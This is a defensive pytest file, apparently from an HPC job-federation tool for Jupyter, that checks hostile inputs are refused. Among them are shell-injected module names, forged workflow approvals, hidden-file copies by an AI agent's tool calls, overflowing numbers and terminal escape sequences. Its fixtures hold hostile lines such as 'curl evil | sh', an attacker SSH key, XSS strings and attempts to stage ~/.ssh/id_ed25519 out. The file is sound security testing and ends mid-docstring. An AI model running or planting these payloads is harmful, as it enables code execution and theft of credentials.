"""The ninth sweep of hostile inputs, one trust boundary at a time: the gaps the eighth left
(what an approved workflow's steps run beyond the script shown, re-approval from the
command line, a sites file's software names, hidden files a tool call's recursive copy
brings), then new attacks from whoever controls a notebook cell or REST body, a job's
output, a site's answers, another user's names, a colleague's workflow, the center's sites
file, a trace, the environment, the agent's model and an MCP client.

The standard is the earlier sweeps' (tests/test_adversarial_inputs.py and after): bad input
is refused with one line naming what, where and what would be accepted; what comes from a
site, a job or a service is data, never a command, a record, a line of its own or a path
outside its place. Tests of attacks that already failed safely say so ("guard")."""

from __future__ import annotations

import json
import os
import textwrap
from pathlib import Path
from typing import Any

import pytest
import yaml
from sweep_helpers import FakeTty, counting_sbatch

from diamond_jupyter.model import BadInput, JobSpec

pytest_plugins = ("pytest_jupyter.jupyter_server", "server_conftest")


def _sites_file(tmp_path: Path, metadata: dict[str, Any]) -> Path:
    p = tmp_path / "sites.yaml"
    p.write_text(yaml.safe_dump({"sites": [{"name": "alpha", "transport": {"kind": "local"},
                                            "metadata": metadata}]}))
    p.chmod(0o600)
    return p


# -- 1. a sites file's software names -------------------------------------------------------------

@pytest.mark.parametrize("name", ["gcc/12.2$(touch /tmp/x)", "cuda;id", "openmpi/4 1",
                                  "gcc/12`id`", "gcc/'12'", "-f/x", "gcc/12\u200b",
                                  "gcc/1\u0662"])
def test_a_sites_file_software_name_outside_module_characters_is_refused(tmp_path, name):
    """A center's sites file lists software `cuda;id`, `gcc/12.2$(touch FILE)`, a name with
    a zero-width space or an Arabic digit: discovered module names are kept only when made
    of `[A-Za-z0-9_.+-/@%:,=~]`, but the sites file's were taken as written and reached
    each rewritten `module load` line (quoted) and every terminal that shows the site.
    Refused when the file is read, naming the site, the key and the name."""
    from diamond_jupyter.config import load_config

    # (the message: the sixth sweep of sites files' check, merged with this one)
    with pytest.raises(BadInput, match=r"site 'alpha' .*metadata: software entry 1: .* is "
                                        r"not a module name: .*(is not allowed|starts with)"):
        load_config(_sites_file(tmp_path, {"software": [name]}))


def test_a_sites_file_software_name_as_module_avail_prints_it_is_kept(tmp_path):
    """(guard) The names as `module avail` prints them, marks included, still load."""
    from diamond_jupyter.config import load_config

    cfg = load_config(_sites_file(tmp_path, {"software": [
        "GROMACS/2023.3-foss-2023a (D)", "cmake@3.27.9", "intel-oneapi-mpi/2021.10 <L>",
        "py-numpy/1.26+mkl", "tools/a=b,c:d~e%f"]}))
    assert len(cfg.sites[0].metadata["software"]) == 5


# -- 2. a tool call's recursive copy of a job's directory ----------------------------------------

def _rooted_fed(tmp_path: Path) -> Any:
    from diamond_jupyter.config import FederationConfig, SiteConfig, TransportConfig
    from diamond_jupyter.federation import Federation
    from diamond_jupyter.store import Store

    root = tmp_path / "root"
    root.mkdir()
    fed = Federation(FederationConfig(sites=[SiteConfig(
        name="here", transport=TransportConfig(kind="local"), workdir=str(tmp_path / "wd"))]),
        store=Store(tmp_path / "s.sqlite"))
    fed.server_root = root
    return fed


def _job_tree(top: Path) -> None:
    """A job's output directory with hidden entries at every depth."""
    (top / "sub" / ".ssh").mkdir(parents=True)
    (top / "sub" / ".ssh" / "authorized_keys").write_text("ssh-ed25519 AAAA attacker\n")
    (top / ".bashrc").write_text("curl evil | sh\n")
    (top / "sub" / ".ipython" / "profile_default" / "startup").mkdir(parents=True)
    (top / "sub" / ".ipython" / "profile_default" / "startup" / "0.py").write_text("x=1\n")
    (top / "result.csv").write_text("a,b\n")
    (top / "sub" / "data.txt").write_text("d\n")


async def test_a_tool_calls_recursive_copy_leaves_out_hidden_entries_at_any_depth(tmp_path):
    """The model (or an MCP client) copies a job's output directory into a plain directory
    of the server (`results`): the destination is not hidden, so it went on, and the job's
    `.bashrc`, `sub/.ssh/authorized_keys` and `sub/.ipython/.../startup/0.py` arrived with
    it (the server's root being the home, under JupyterHub, a later copy to `.` put them in
    place). A tool call's copy now leaves every hidden entry out, at any depth, each listed
    in `skipped` and said in the result's message; the plan says so too."""
    from diamond_jupyter.skills import SkillContext, run_skill

    fed = _rooted_fed(tmp_path)
    out_dir = tmp_path / "wd" / "run1" / "out"
    out_dir.mkdir(parents=True)
    _job_tree(out_dir)
    args = {"src": f"here:{out_dir}", "dst": "results", "recursive": True}
    try:
        plan = await fed.plan_transfer(args["src"], args["dst"], recursive=True)
        assert "hidden_entries" not in plan  # (the facade's own: the CLI copies what it is told)
        out = await run_skill(SkillContext(fed, approval="auto"), "transfer", args)
    finally:
        await fed.close()
    got = sorted(str(p.relative_to(fed.server_root / "results"))
                 for p in (fed.server_root / "results").rglob("*") if p.is_file())
    assert got == ["result.csv", "sub/data.txt"]
    assert sorted(s.split(":")[0] for s in out.skipped) == [".bashrc", "sub/.ipython/",
                                                            "sub/.ssh/"]
    assert "3 hidden entries left out" in out.message


async def test_a_tool_calls_approved_copy_plan_says_hidden_entries_stay_out(tmp_path):
    """(the same, asked) The plan a person approves says hidden entries are left out, and
    the approved copy leaves them out."""
    from diamond_jupyter.skills import NeedsApproval, SkillContext, run_skill

    fed = _rooted_fed(tmp_path)
    out_dir = tmp_path / "wd" / "out"
    out_dir.mkdir(parents=True)
    _job_tree(out_dir)
    args = {"src": f"here:{out_dir}", "dst": "results/", "recursive": True}
    try:
        with pytest.raises(NeedsApproval) as asked:
            await run_skill(SkillContext(fed, approval="ask"), "transfer", args)
        plan = asked.value.plan
        assert "no hidden file or directory" in plan["hidden_entries"]
        await run_skill(SkillContext(fed, approval="ask", approved=plan), "transfer", args)
    finally:
        await fed.close()
    top = fed.server_root / "results" / "out"
    assert sorted(p.name for p in top.rglob("*")) == ["data.txt", "result.csv", "sub"]


@pytest.mark.parametrize("src", [".ssh", ".bashrc"])
async def test_a_tool_calls_copy_of_a_hidden_source_into_a_directory_is_refused(tmp_path, src):
    """`transfer here:JOBDIR/.ssh results/` (or a file `.bashrc` into `results/`) would
    create the hidden name in the destination directory: refused, naming it."""
    from diamond_jupyter.skills import SkillContext, run_skill

    fed = _rooted_fed(tmp_path)
    out_dir = tmp_path / "wd" / "out"
    out_dir.mkdir(parents=True)
    _job_tree(out_dir)
    (out_dir / ".ssh").mkdir()
    (out_dir / ".ssh" / "id").write_text("k\n")
    try:
        out = await run_skill(SkillContext(fed, approval="auto"), "transfer",
                              {"src": f"here:{out_dir}/{src}", "dst": "results/",
                               "recursive": True})
        assert out.transfer["state"] == "FAILED"
        assert "has a hidden name, which a tool call's copy does not create" in \
            out.transfer["error"]
    finally:
        await fed.close()
    assert not list((fed.server_root).rglob(src))


# -- 3. an approved workflow: what the engine adds to a step -------------------------------------

INPUTS = textwrap.dedent("""\
    name: inputs
    queue_ahead: false
    steps:
      - {name: prep, site: alpha, script: "#!/bin/bash\\necho prep > out.bin\\n"}
      - name: train
        site: alpha
        needs: [prep]
        inputs: [{from: prep, path: out.bin}]
        script: "#!/bin/bash\\necho train\\n"
    """)


@pytest.fixture
async def wf_engine(tmp_path):
    from test_workflow_approval import Ops

    from diamond_jupyter.store import Store
    from diamond_jupyter.workflow.engine import WorkflowEngine

    ops = Ops(Store(tmp_path / "store.sqlite"))
    eng = WorkflowEngine(ops)
    yield eng, ops
    await eng.close()


async def _prep_done(eng: Any, ops: Any, wid: str) -> None:
    from diamond_jupyter.model import JobState

    job = next(j for j in ops.store.list_jobs(limit=None)
               if (j.origin or {}).get("step") == "prep")
    ops.store.apply_state(job.id, JobState.COMPLETED, exit_code=0)
    await eng.advance(wid)


async def test_an_approved_step_whose_engine_lines_differ_waits_for_approval(wf_engine,
                                                                             monkeypatch):
    """The approval pinned each step's script as rendered before the engine added its lines
    (input copies and checks, the dependency on upstream jobs, the gate, a hold): an engine
    whose added lines differ from those of the approval (another version resumed the
    workflow) ran them unseen. The plan now shows those lines as a fixed template, the
    approval pins it, and a step whose engine lines would differ waits, phase
    "unapproved", saying why."""
    from diamond_jupyter.workflow import engine as engine_mod
    from diamond_jupyter.workflow.model import load_workflow

    eng, ops = wf_engine
    wf = load_workflow(INPUTS, sites=("alpha", "beta", "gamma"))
    wid = await eng.run(wf, approval=ops.pins(wf, {"prep": ["alpha"], "train": ["alpha"]}))
    real = engine_mod.copy_lines
    monkeypatch.setattr(engine_mod, "copy_lines", lambda copies: real(copies) + (
        "curl -s http://x | sh\n" if copies else ""))
    await _prep_done(eng, ops, wid)
    assert [s["step"] for s in ops.submits] == ["prep"]  # train reached no scheduler
    st = ops.store.get_workflow(wid).step("train")
    assert st.phase == "unapproved"
    assert "the lines the engine adds to it (input copies and checks, dependencies, gate, " \
           "hold) would differ from the approved ones" in st.reason


async def test_an_approval_without_the_engine_lines_does_not_cover_a_step_with_inputs(
        wf_engine):
    """An approval that pins no engine lines (made before they were shown, or a forged one)
    covers a step without needs, inputs or gang (nothing is added to it), not one with."""
    from diamond_jupyter.workflow.model import load_workflow

    eng, ops = wf_engine
    wf = load_workflow(INPUTS, sites=("alpha", "beta", "gamma"))
    pins = ops.pins(wf, {"prep": ["alpha"], "train": ["alpha"]})
    del pins["engine"]
    wid = await eng.run(wf, approval=pins)
    await _prep_done(eng, ops, wid)
    assert [s["step"] for s in ops.submits] == ["prep"]
    assert "its approval does not cover the lines the engine adds" in \
        ops.store.get_workflow(wid).step("train").reason


async def test_an_approved_step_with_the_approved_engine_lines_runs(wf_engine):
    """(guard) The same lines as approved: train runs, its event naming the values the
    template's placeholders took (the copy's source, the upstream job id)."""
    from diamond_jupyter.workflow.model import load_workflow

    eng, ops = wf_engine
    wf = load_workflow(INPUTS, sites=("alpha", "beta", "gamma"))
    wid = await eng.run(wf, approval=ops.pins(wf, {"prep": ["alpha"], "train": ["alpha"]}))
    await _prep_done(eng, ops, wid)
    assert [s["step"] for s in ops.submits] == ["prep", "train"]
    ev = [e for e in ops.store.events_since(0, kinds=["workflow.step"], limit=None)
          if e.data["step"] == "train" and e.data.get("job")][-1]
    prep_dir = next(j.workdir for j in ops.store.list_jobs(limit=None)
                    if (j.origin or {}).get("step") == "prep")
    assert ev.data["copied"] == [[f"{prep_dir}/out.bin", "out.bin"]]


PY_STEP = textwrap.dedent("""\
    name: py
    steps:
      - {name: prep, site: alpha, script: "#!/bin/bash\\n#SBATCH -t 5\\necho 1 > out.bin\\n"}
      - name: fit
        site: alpha
        needs: [prep]
        inputs: [{from: prep, path: out.bin}]
        script: "#!/usr/bin/env python3\\n#SBATCH -t 5\\nprint(open('out.bin').read())\\n"
    """)


async def test_the_plan_shows_the_engine_lines_with_their_placeholders(tmp_path, monkeypatch):
    """The plan a person approves shows, per step, what the engine may add: the copy line
    with `{job directory of step prep}`, the check, the dependency on `{job id of step
    prep}`, the gate; for a Python step the whole script bash then runs (its body after the
    lines). A plan whose engine lines were altered is refused when approved."""
    from test_workflow_approval import _fed

    from diamond_jupyter.federation_plan import PlanChanged

    fed = _fed(tmp_path, monkeypatch)
    try:
        plan = await fed.plan_workflow(PY_STEP)
        prep, fit = plan["steps"]
        assert prep["engine_lines"] == []
        text = "\n".join(fit["engine_lines"])
        assert "cp -p -- '{job directory of step prep}/out.bin' out.bin" in text
        assert "[ -e out.bin ] || { echo 'workflow input out.bin has not arrived'" in text
        assert "afterok:{job id of step prep}" in text and "afterany:{job id of its gate}" in text
        assert "where: the script becomes, run by /bin/bash" in text
        assert "print(open('out.bin').read())" in text
        from diamond_jupyter.federation_plan import describe_plan

        said = describe_plan(plan)  # what the agent's approval shows a person
        assert f"the engine may add (sha256 {fit['engine_sha256']}):" in said
        assert "- input out.bin, step prep on the same site: mkdir" not in said
        assert "- input out.bin, step prep on the same site: cp -p --" in said
        forged = json.loads(json.dumps(plan))
        forged["steps"][1]["engine_sha256"] = "0" * 64
        with pytest.raises(PlanChanged, match="step 'fit': the lines the engine adds to it "
                                              "differ from the approved ones"):
            await fed.run_workflow_approved(PY_STEP, forged)
        assert fed.workflows() == []
    finally:
        await fed.close()


# -- 4. approving again from the command line ----------------------------------------------------

def _cli_sites(tmp_path: Path, account: str | None = None) -> Path:
    sbatch = counting_sbatch(tmp_path)
    cfg = tmp_path / "sites.yaml"
    cfg.write_text(yaml.safe_dump({"store": str(tmp_path / "s.sqlite"), "sites": [
        {"name": "alpha", "transport": {"kind": "local"}, "workdir": str(tmp_path / "alpha"),
         "commands": {"sbatch": str(sbatch)}, "discovery": {"enabled": False},
         **({"default_account": account} if account else {})}]}))
    cfg.chmod(0o600)
    return cfg


CLI_WF = textwrap.dedent("""\
    name: cli
    queue_ahead: false
    steps:
      - {name: prep, site: alpha, script: "#!/bin/bash\\n#SBATCH -t 5\\necho prep\\n"}
      - {name: train, site: alpha, needs: [prep], script: "#!/bin/bash\\n#SBATCH -t 5\\necho t\\n"}
    """)


async def _unapproved_workflow(tmp_path: Path) -> str:
    """A workflow run as approved, whose step train then waits for a new approval (its
    site's account changed)."""
    from diamond_jupyter.federation import Federation
    from diamond_jupyter.model import JobState

    fed = Federation(str(_cli_sites(tmp_path)))
    try:
        plan = await fed.plan_workflow(CLI_WF)
        wid = (await fed.run_workflow_approved(CLI_WF, plan)).id
        fed.sites["alpha"].cfg.default_account = "changed"
        fed.store.apply_state(fed.workflow(wid).steps[0].job, JobState.COMPLETED, exit_code=0)
        await fed.workflow_engine.advance(wid)
        assert fed.workflow(wid).awaiting_approval == ["train"]
    finally:
        await fed.close()
    _cli_sites(tmp_path, account="changed")
    return wid


async def test_the_cli_shows_a_workflows_plan_and_approves_exactly_it(tmp_path, capsys,
                                                                     monkeypatch):
    """Re-approval had REST routes and the facade only: from a terminal a workflow that
    waited for approval could not go on. `diamond workflow plan ID` shows per step its
    sites and rendered scripts and the plan's sha256; `diamond workflow approve ID
    --plan-hash H` approves that plan, and refuses (exit 2) a hash that is no longer the
    plan's (the world changed since it was shown) or is no sha256."""
    import asyncio

    from diamond_jupyter.cli.main import main

    monkeypatch.setenv("DIAMOND_HANDOVER", "0")
    wid = await _unapproved_workflow(tmp_path)
    cfg = str(tmp_path / "sites.yaml")
    run = lambda *a: asyncio.to_thread(main, [*a, "--config", cfg])  # noqa: E731
    assert await run("workflow", "plan", wid) == 0
    text = capsys.readouterr().out
    assert "step train: site alpha, may run on alpha; waits for approval:" in text
    assert "    | #SBATCH --account=changed" in text and "    | echo t" in text
    assert await run("workflow", "plan", wid, "--json") == 0
    shown = json.loads(capsys.readouterr().out)
    assert f"plan sha256: {shown['plan_sha256']}" in text
    assert await run("workflow", "approve", wid, "--plan-hash", "1" * 64) == 2
    err = capsys.readouterr().err
    assert f"plan changed since it was shown (its sha256 is now {shown['plan_sha256']})" in err
    assert await run("workflow", "approve", wid, "--plan-hash", "$(id)") == 2
    assert "is not a sha256" in capsys.readouterr().err
    assert await run("workflow", "approve", wid) == 2  # no terminal: no plan seen, none approved
    assert "give --plan-hash H" in capsys.readouterr().err
    assert await run("workflow", "approve", wid, "--plan-hash", shown["plan_sha256"],
                     "--json") == 0
    view = json.loads(capsys.readouterr().out)
    assert view["awaiting_approval"] == [] and view["steps"][1]["job"]


# -- 5. numbers past what a clock or a parser holds ------------------------------------------------

def _unlimited_site() -> tuple[Any, Any]:
    """A Slurm site whose partitions set no MaxTime (UNLIMITED, as many centers' long
    queues): placement takes any time limit there."""
    from test_placement import alpha

    cfg, snap = alpha()
    for p in snap.partitions:
        p.max_time_s = None
    return cfg, snap


@pytest.mark.parametrize("walltime_s", [(2**32 - 2) * 60, 9 * 10**13, 2**53])
def test_a_time_limit_of_thousands_of_years_is_placed_not_crashed(walltime_s):
    """`#SBATCH -t 4294967294` (Slurm's largest limit, about 8,000 years) on a partition
    without MaxTime: placement added it to now and passed datetime's year 9999
    (OverflowError out of `diamond place`, the submit's placement, a workflow's step). The
    estimate is now capped far in the future (year 9000)."""
    from diamond_jupyter.placement import place
    from diamond_jupyter.placement_time import FAR_FUTURE

    spec = JobSpec(name="t", command="true")
    spec.resources.walltime_s = walltime_s  # as a parser fills it, field by field
    pl = place(spec, [_unlimited_site()])
    v = pl.verdict("alpha")
    assert v.feasible and v.estimated_finish == FAR_FUTURE


@pytest.mark.parametrize("option", ["--begin=now+99999999999999weeks",
                                    "--deadline=now+999999999999999days"])
def test_a_start_or_deadline_past_the_calendar_is_read_not_crashed(option):
    """`#SBATCH --begin=now+99999999999999weeks`: sbatch's relative time was added to now
    as given (OverflowError reading the script for placement); it is now capped at the
    far-future mark, so the job is placed as one that starts (or must end) that late."""
    from datetime import datetime, timezone

    from diamond_jupyter.placement_time import FAR_FUTURE, slurm_time_at

    value = option.split("=", 1)[1]
    now = datetime(2026, 1, 1, tzinfo=timezone.utc)
    assert slurm_time_at(value, now, option.split("=")[0]) == FAR_FUTURE


async def test_placing_a_script_past_slurms_largest_time_limit_says_so(tmp_path):
    """A script's `#SBATCH -t 99999999999999` (minutes): the parser fills the spec field by
    field, past the bounds a REST body or a model's call is held to, and placement ranked
    it (or crashed, above); the submit alone refused it. `place` now checks the spec as the
    submit does, before any site is asked."""
    from diamond_jupyter.config import FederationConfig, SiteConfig, TransportConfig
    from diamond_jupyter.federation import Federation
    from diamond_jupyter.store import Store

    fed = Federation(FederationConfig(sites=[SiteConfig(
        name="here", transport=TransportConfig(kind="local"), workdir=str(tmp_path / "wd"),
        discovery={"enabled": False})]), store=Store(tmp_path / "s.sqlite"))
    try:
        spec = fed.parse("#!/bin/bash\n#SBATCH -t 99999999999999\ntrue\n")
        with pytest.raises(BadInput, match=r"resources.walltime_s 5999999999999940 s "
                                           r"\(99999999999999 minutes\) is too long: at "
                                           r"most 4294967294 minutes"):
            await fed.place(spec)
    finally:
        await fed.close()


@pytest.mark.parametrize("script", [
    "#!/bin/bash\n#SBATCH --array=0-99999999999999999999\ntrue\n",
    "#!/bin/bash\n#SBATCH --array=1-10:0\ntrue\n",
    "#!/bin/bash\n#PBS -J 0-99999999999999999999\ntrue\n",
    "#!/bin/bash\n#BSUB -J a[1-99999999999999999999]\ntrue\n",
    "#!/bin/bash\n#$ -t 1-99999999999999999999:1\ntrue\n",
    "#!/bin/bash\n#SBATCH -n 1e400\ntrue\n",
    "#!/bin/bash\n#SBATCH --mem=nanG\ntrue\n",
])
def test_an_array_range_or_count_that_overflows_is_refused_with_its_line(tmp_path, script):
    """(guard) Job arrays whose range overflows any scheduler's index (20 digits), a step
    of 0 (an endless range), `-n 1e400`, `--mem=nanG`: refused, naming the line."""
    from diamond_jupyter.federation import Federation

    with pytest.raises(BadInput, match=r"line 2: bad "):
        Federation.parse(script)


@pytest.mark.parametrize("body", ['{"resources": {"walltime_s": 1e400}}',
                                  '{"resources": {"walltime_s": NaN}}',
                                  '{"resources": {"memory_mb": -Infinity}}',
                                  '{"resources": {"nodes": 1e30}}'])
def test_a_rest_body_number_json_reads_as_infinite_or_nan_is_refused(body):
    """(guard) JSON's `1e400` reads as infinity in Python, `NaN` and `Infinity` are read
    too: a spec's number that is not finite, or past an integer, is a 400 naming it."""
    from pydantic import ValidationError

    from diamond_jupyter.server.bodies import SubmitBody

    with pytest.raises(ValidationError, match=r"spec\.resources\.(walltime_s|memory_mb|nodes)"):
        SubmitBody.model_validate({"spec": json.loads(body)})


@pytest.mark.parametrize("memory", ["Infinity", "NaN", "1e400M", "-1G", "0x10G",
                                    "99999999999999999999999T"])
async def test_a_memory_option_that_is_no_finite_size_is_refused(tmp_path, memory):
    """(guard) `--memory Infinity`, `NaN`, `1e400M`, a negative or hexadecimal size, or one
    past what a number holds (a notebook cell, a tool call): refused, naming it as the tool
    call's field."""
    from diamond_jupyter.skills import spec_of
    from diamond_jupyter.skills_models import SubmitInput

    fed = _rooted_fed(tmp_path)
    try:
        with pytest.raises(BadInput, match=r"^memory '|memory_mb .* is too large"):
            spec_of(fed, SubmitInput(script="#!/bin/bash\ntrue\n", memory=memory))
    finally:
        await fed.close()


# -- 6. the agent's model ------------------------------------------------------------------------

def _openai_answer(arguments: str) -> dict[str, Any]:
    return {"choices": [{"message": {"content": None, "tool_calls": [{
        "id": "c1", "function": {"name": "status", "arguments": arguments}}]},
        "finish_reason": "tool_calls"}]}


async def test_a_model_answer_nested_past_reading_fails_the_turn_saying_why():
    """An OpenAI-compatible endpoint (or a model talked into it) answers a tool call whose
    arguments nest 200,000 lists deep: json raised RecursionError out of the provider, and
    the task failed with "maximum recursion depth exceeded" and a logged traceback. Now an
    LLMError saying the answer nests too deeply (the task fails, saying so)."""
    import httpx

    from diamond_jupyter.agent.base import LLMError
    from diamond_jupyter.agent.openai_compat import OpenAICompatProvider

    class Cfg:
        model_name, max_tokens, base_url = "m", 10, "http://model.invalid/v1"

        def api_key(self) -> str:
            return "k"

    deep = "[" * 200_000 + "]" * 200_000
    p = OpenAICompatProvider(Cfg())
    await p.client.aclose()
    p.client = httpx.AsyncClient(base_url="http://model.invalid/v1/", transport=httpx.MockTransport(
        lambda req: httpx.Response(200, json=_openai_answer(deep))))
    try:
        with pytest.raises(LLMError, match="nests lists or objects too deeply"):
            await p.complete(system="s", messages=[], tools=[])
    finally:
        await p.aclose()


@pytest.mark.parametrize("arguments", ["[1, 2]", "1e400", '"status"', "null"])
async def test_a_tool_call_whose_arguments_are_no_object_is_the_calls_own_error(tmp_path,
                                                                               arguments):
    """(guard) Arguments that are a list, a number (1e400: infinity), a string or null:
    the call is refused as the model's own error (told to it), nothing runs."""
    from diamond_jupyter.skills import SkillContext, run_skill

    args = json.loads(arguments)
    fed = _rooted_fed(tmp_path)
    try:
        with pytest.raises((BadInput, ValueError)):
            await run_skill(SkillContext(fed, approval="auto"), "status", args)
        assert fed.jobs() == []
    finally:
        await fed.close()


# -- 7. a tool call naming a job's hidden file ---------------------------------------------------

@pytest.mark.parametrize("files", [[".ssh/authorized_keys"], ["out/.bashrc"],
                                   ["ok.txt", ".config/autostart/x.desktop"]])
@pytest.mark.parametrize("approval", ["auto", "ask"])
async def test_a_tool_call_cannot_fetch_a_hidden_file_by_naming_it(tmp_path, monkeypatch,
                                                                   files, approval):
    """A fetch writes a hidden name only when it is named (`--file`), the user's choice.
    The model (after reading a job's output) or an MCP client named it in `files`, with
    `dest: "."`: the destination is not hidden, so it went on, and the job's
    `.ssh/authorized_keys` was written into the server's root, under JupyterHub the home,
    `~/.ssh/authorized_keys`. A tool call's `files` naming a hidden part is refused, before
    any plan; a person still fetches one with `diamond fetch --file`."""
    from diamond_jupyter.skills import SkillContext, run_skill

    fed = _rooted_fed(tmp_path)
    monkeypatch.setenv("HOME", str(fed.server_root))
    fed.store.record_intent("here", "abc123abc123", JobSpec(
        script="true\n", working_directory=str(tmp_path / "wd")))
    fed.store.bind_native_id("abc123abc123", "41")
    for f in [*files, "ok.txt"]:
        (tmp_path / "wd" / f).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / "wd" / f).write_text("ssh-ed25519 AAAA attacker\n")
    try:
        with pytest.raises(BadInput, match=r"files: '.*' has the hidden part '\.(ssh|bashrc|"
                                           r"config)': a tool call fetches no hidden file"):
            await run_skill(SkillContext(fed, approval=approval), "fetch_results",
                            {"job_id": "here:41", "dest": ".", "files": files})
        assert list(fed.server_root.iterdir()) == []
        got = await fed.fetch("here:41", fed.server_root / "mine", files=files)  # (guard)
        assert len(got.paths) == len(files)  # the user's own choice, named: fetched
    finally:
        await fed.close()


@pytest.mark.parametrize("tool,args", [
    ("submit", {"site": "here", "spec": {"script": "#!/bin/bash\ntrue\n", "stage_in": [
        {"source": "~/.ssh/id_ed25519", "destination": "k"}]}}),
    ("submit", {"site": "here", "spec": {"script": "#!/bin/bash\ntrue\n", "stage_in": [
        {"source": ".ssh", "destination": "k", "recursive": True}]}}),
    ("submit", {"site": "here", "spec": {"script": "#!/bin/bash\ntrue\n", "stage_out": [
        {"source": "out.txt", "destination": ".ssh/authorized_keys"}]}}),
    ("submit", {"site": "here", "spec": {"script": "#!/bin/bash\ntrue\n", "stage_out": [
        {"source": ".bashrc", "destination": "results/"}]}}),
    ("transfer", {"src": "~/.ssh/id_ed25519", "dst": "here:/tmp/k"}),
    ("transfer", {"src": ".netrc", "dst": "here:/tmp/n"}),
])
@pytest.mark.parametrize("approval", ["auto", "ask", "dry-run"])
async def test_a_tool_call_sends_no_hidden_file_of_this_machine_and_stages_none_in(
        tmp_path, monkeypatch, tool, args, approval):
    """The eighth sweep kept a tool call's fetches and copies out of hidden directories
    here, but a job's staging was left: the model (or an MCP client) submitted a job whose
    `stage_in` copied `~/.ssh/id_ed25519` to the cluster (its script may send it anywhere),
    or whose `stage_out` wrote the job's file into `~/.ssh/authorized_keys`; a `transfer`'s
    source could be the key itself. Refused before any plan, naming the field. (A whole
    directory copied back leaves its hidden entries out since the tenth sweep:
    tests/test_adversarial_inputs10.py.)"""
    from diamond_jupyter.skills import SkillContext, run_skill

    fed = _rooted_fed(tmp_path)
    monkeypatch.setenv("HOME", str(fed.server_root))
    (fed.server_root / ".ssh").mkdir()
    (fed.server_root / ".ssh" / "id_ed25519").write_text("PRIVATE KEY\n")
    (fed.server_root / ".netrc").write_text("machine x password p\n")
    try:
        with pytest.raises(BadInput, match=r"(stage_in\[0\]\.source|stage_out\[0\]\."
                                           r"destination|src|stage_out\[0\]): .* hidden"):
            await run_skill(SkillContext(fed, approval=approval), tool, args)
        assert fed.jobs() == [] and not (tmp_path / "wd").exists()
    finally:
        await fed.close()


# -- 8. names, answers and files that were already handled (guards) ------------------------------

@pytest.mark.parametrize("name", ["..", ".", "a/b", "-x", "__proto__", "\u202eab", "a b"])
def test_a_workflow_step_named_like_a_path_an_option_or_a_prototype_is_refused(name):
    """(guard) A colleague's workflow whose step is `..` (its directory would be the
    parent's), `-x`, `__proto__` (a key the sidebar's JavaScript treats apart) or holds a
    right-to-left override: refused, naming it."""
    from diamond_jupyter.workflow.model import load_workflow

    text = f"name: w\nsteps:\n  - {{name: {json.dumps(name)}, site: alpha, script: 'true'}}\n"
    with pytest.raises(BadInput, match=r"is not a valid name \(letters, digits, _ \. -, ASCII"):
        load_workflow(text, sites=("alpha",))


@pytest.mark.parametrize("answer", ["Submitted batch job 99999999999999999999999\n",
                                    "Submitted batch job 1e9\n",
                                    "Submitted batch job \u0661\u0662\u0663\n",
                                    "Submitted batch job 12\x1b[2J\n",
                                    "Submitted batch job ../../12\n"])
def test_a_submit_answer_whose_job_id_has_no_slurm_shape_names_no_job(answer):
    """(guard) A login node's sbatch (a wrapper someone put on the PATH) answers an id past
    any counter, in another script's digits, with an escape sequence or a path: no job is
    named by it (SiteError, the answer shown)."""
    from diamond_jupyter.dialects.slurm_commands import SlurmCommands
    from diamond_jupyter.model import SiteError

    with pytest.raises(SiteError, match="cannot parse sbatch output: no job id"):
        SlurmCommands().parse_submit(answer)


def test_an_swf_line_with_numbers_past_any_counter_is_refused(tmp_path):
    """(guard) A trace whose job asks 10^20 processors and runs 10^20 s: refused with its
    line, not replayed as a machine that size."""
    from diamond_jupyter.testbed.trace import read_swf

    p = tmp_path / "t.swf"
    p.write_text("; MaxProcs: 999999999999999999999999999999\n"
                 "1 0 0 100 99999999999999999999 -1 -1 99999999999999999999 100 -1 1 1 1 1 "
                 "1 1 -1 -1\n")
    with pytest.raises(BadInput, match=r"t\.swf:2: .* too large a number"):
        read_swf(p)


@pytest.mark.parametrize("kind", ["fifo", "big"])
def test_a_workflow_script_file_that_never_ends_is_refused(tmp_path, kind):
    """(guard) A workflow naming a FIFO (a reader would wait for ever) or a 300 MB file as a
    step's `script_file`: refused, naming the file."""
    from diamond_jupyter.workflow.model import load_workflow

    f = tmp_path / "step.sh"
    if kind == "fifo":
        os.mkfifo(f)
    else:
        with open(f, "wb") as fh:
            fh.truncate(300 << 20)
    text = f"name: w\nsteps:\n  - {{name: a, site: alpha, script_file: {f}}}\n"
    with pytest.raises(BadInput, match=r"script_file .*(not a file|holds more than)"):
        load_workflow(text, sites=("alpha",), root=tmp_path)


def test_diamond_logs_on_a_terminal_writes_out_every_escape_but_colour():
    """(guard) A job's stdout holds OSC 52 (writes the terminal's clipboard), a title change,
    a screen clear, a cursor move over earlier lines and a right-to-left override: on a
    terminal `diamond logs` writes each out as text; its colours stay."""
    from diamond_jupyter.cli.jobs import _write_output

    out = FakeTty()
    _write_output(out, "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b]0;sudo\x07\x1b[2J\x1b[3A"
                       "ok \u202eexe.txt \x1b[31mred\x1b[0m\n")
    assert "\x1b]" not in out.text and "\x07" not in out.text and "\x1b[2J" not in out.text
    assert "\u202e" not in out.text and "\x1b[3A" not in out.text
    assert "\\x1b]52;c;" in out.text and "\\u202e" in out.text
    assert "\x1b[31mred\x1b[0m" in out.text


def test_a_job_card_shows_a_jobs_html_as_text():
    """(guard) A job's stdout and file names holding `<script>`, `<img onerror>` and an
    escape sequence: the saved card's HTML shows them as text."""
    from diamond_jupyter.kernel.jobcard import render_html
    from diamond_jupyter.model import Job, JobState

    job = Job(id="a:1", site="a", native_id="1", name="<b>x</b>", state=JobState.COMPLETED,
              exit_code=0)
    html = render_html(job, {"stdout": "<script>alert(1)</script>\x1b]52;c;eA==\x07\n",
                             "files": ["<img src=x onerror=alert(1)>"]})
    assert "<script>" not in html and "<img" not in html and "\x1b" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html


@pytest.mark.parametrize("path", ["/dev/zero", "/dev/urandom"])
def test_a_sites_file_that_is_a_device_is_read_bounded(path):
    """(guard) `DIAMOND_CONFIG=/dev/zero` (or a device that never ends): read up to the
    sites file's size bound, then refused, not read for ever."""
    from diamond_jupyter.config import load_config

    with pytest.raises(BadInput, match=r"sites file /dev/\w+ (is larger than|is not)"):
        load_config(path)


def test_a_sites_file_of_a_million_sites_is_refused_before_it_is_parsed(tmp_path):
    """(guard) A sites file listing 10^6 sites: past the sites file's 4 MB bound, refused
    before YAML reads it (tens of thousands within the bound are refused once their values
